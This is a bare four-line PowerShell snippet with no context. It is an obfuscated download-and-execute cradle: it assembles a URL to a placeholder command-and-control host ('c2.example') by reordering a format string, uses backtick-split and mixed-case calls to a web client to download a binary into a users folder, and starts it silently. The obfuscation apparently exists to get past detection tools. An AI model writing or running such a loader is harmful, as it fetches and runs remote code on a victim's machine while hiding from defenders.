$u = "{1}{0}" -f '2.example/b.bin','http://c'
$f = 'C:\QQusers\x.bin'.Replace('QQ', '')
(new`-obj`ect sYstem.nEt.weBcLient).DownloadFile($u, $f)
start-process $f -ArgumentList ('/q','/n')
